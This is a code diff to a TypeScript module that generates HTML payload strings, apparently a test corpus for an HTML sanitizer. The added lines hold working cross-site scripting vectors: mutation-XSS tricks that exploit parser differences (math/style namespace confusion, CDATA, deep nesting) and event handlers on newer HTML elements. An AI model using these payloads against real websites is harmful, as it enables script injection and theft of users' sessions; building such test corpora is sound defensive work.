@@ -12,7 +12,7 @@ export function rawForms(): string[] {
     for (const element of handlers) {
       for (const spell of Object.values(spellings)) add((code) => place(element(spell, code)))
     }
-    for (const script of scripts) add((code) => place(script(code)))
+    for (const script of [...scripts, ...parsedTwice, ...newer]) add((code) => place(script(code)))
     for (const element of carriers) {
       for (const url of urls) add((code) => place(element(url(code))))
     }
@@ -68,6 +68,46 @@ const scripts: ((code: string) => string)[] = [
   (code) => `<svg><style><img src=x: onerror="${code}"></style></svg>`,
   (code) => `<!--><img src=x: onerror="${code}">-->`,
   (code) => `<svg></p><style><a title="</style><img src=x: onerror=${code.replaceAll(' ', '&#32;')}>"></svg>`,
+]
+
+/** What one parser reads as text, and another one as elements. */
+const parsedTwice: ((code: string) => string)[] = [
+  (code) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${code}&gt;">`,
+  (code) => `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=${code}">`,
+  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
+  (code) => `<svg><style>&lt;/style&gt;&lt;img src=x: onerror=${code}&gt;</style></svg>`,
+  (code) => `<svg><title><style>&lt;/style&gt;&lt;img src=x: onerror=${code}&gt;</style></title></svg>`,
+  (code) => `<svg><xmp>&lt;/xmp&gt;&lt;img src=x: onerror=${code}&gt;</xmp></svg>`,
+  (code) => `<svg><textarea>&lt;/textarea&gt;&lt;img src=x: onerror=${code}&gt;</textarea></svg>`,
+  (code) => `<select><option><style></select><img src=x: onerror=${code}></style></option></select>`,
+  (code) => `<svg><![CDATA[</svg><img src=x: onerror=${code}>]]></svg>`,
+  (code) => `<!-- --!><img src=x: onerror=${code}> -->`,
+  (code) => `<?x ><img src=x: onerror=${code}> ?>`,
+  // Browsers put elements that are deeper than 512 levels beside each other.
+  (code) =>
+    `${'<div>'.repeat(509)}<svg><style>&lt;/style&gt;&lt;img src=x: onerror=${code}&gt;</style></svg>${'</div>'.repeat(509)}`,
+]
+
+/** Elements and attributes that browsers have had since 2023. */
+const newer: ((code: string) => string)[] = [
+  (code) => `<button popovertarget="p">a</button><div id="p" popover onbeforetoggle="${code}">b</div>`,
+  (code) => `<button command="--a" commandfor="q">a</button><div id="q" oncommand="${code}">b</div>`,
+  (code) => `<dialog open closedby="any" onclose="${code}"><button command="close" commandfor="d">a</button></dialog>`,
+  (code) => `<details name="d" open ontoggle="${code}"><summary>a</summary></details>`,
+  (code) =>
+    `<select><button><selectedcontent></selectedcontent></button><option><img src="x:" onerror="${code}"></select>`,
+  (code) => `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${code}">a</div>`,
+  (code) => `<p onscrollsnapchange="${code}" onscrollend="${code}" onpagereveal="${code}">a</p>`,
+  (code) => `<permission type="geolocation" onpromptaction="${code}"></permission>`,
+  (code) => `<geolocation autolocate onlocation="${code}"></geolocation>`,
+  (code) =>
+    `<p><template shadowrootmode="open" shadowrootclonable><slot onslotchange="${code}"></slot></template>a</p>`,
+  (code) => `<template for="t"><img src="x:" onerror="${code}"></template><p id="t">a</p>`,
+  (code) => `<script type="importmap">{"imports":{"react":"data:text/javascript,${code}"}}</script>`,
+  (code) => `<script type="speculationrules">{"prerender":[{"urls":["/?${code}"]}]}</script>`,
+  (code) => `<math><maction actiontype="statusline" xlink:href="javascript:${code}">a</maction></math>`,
+  (code) =>
+    `<svg><a xlink:href="#"><animate attributeName="href" from="javascript:${code}" to="#" dur="9s" /></a></svg>`,
 ]
 
 /** URLs that run code. */
